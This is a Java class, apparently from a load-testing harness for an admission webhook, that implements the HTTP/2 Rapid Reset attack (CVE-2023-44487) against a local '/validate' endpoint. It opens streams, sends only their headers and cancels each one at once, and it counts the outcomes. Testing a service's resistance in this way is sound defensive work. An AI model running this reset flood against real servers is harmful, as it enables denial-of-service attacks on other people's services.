package dev.kamajihetzner.webhook.load;

import dev.kamajihetzner.webhook.admission.OpenHttp2;
import io.vertx.core.Vertx;
import io.vertx.core.http.HttpClient;
import io.vertx.core.http.HttpMethod;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;

/**
 * Streams of HTTP/2 that are opened and reset at once.
 *
 * @param connections at once; one that is closed is opened again
 * @see <a href="https://www.cve.org/CVERecord?id=CVE-2023-44487">CVE-2023-44487</a>
 */
record StreamResets(int connections) implements Attack {
  /** Asked for and not reset yet. */
  private static final int UNDER_WAY = 500;

  private static final long CANCEL = 8;

  @Override
  public void run(Target target, long end, Outcomes outcomes) throws InterruptedException {
    Vertx vertx = Vertx.vertx();
    try {
      HttpClient client = OpenHttp2.client(vertx, connections);
      Semaphore underWay = new Semaphore(UNDER_WAY);
      while (!Attack.until(end).isZero()) {
        if (!underWay.tryAcquire(1, TimeUnit.SECONDS)) {
          continue;
        }
        client
            .request(HttpMethod.POST, target.port(), "localhost", "/validate")
            .compose(
                request ->
                    request
                        .putHeader("Content-Type", "application/json")
                        .setChunked(true)
                        .sendHead()
                        .onSuccess(sent -> request.reset(CANCEL)))
            .onComplete(
                done -> {
                  outcomes.count(done.succeeded() ? "reset" : Outcomes.CUT_OFF);
                  underWay.release();
                });
      }
    } finally {
      vertx.close().toCompletionStage().toCompletableFuture().join();
    }
  }
}
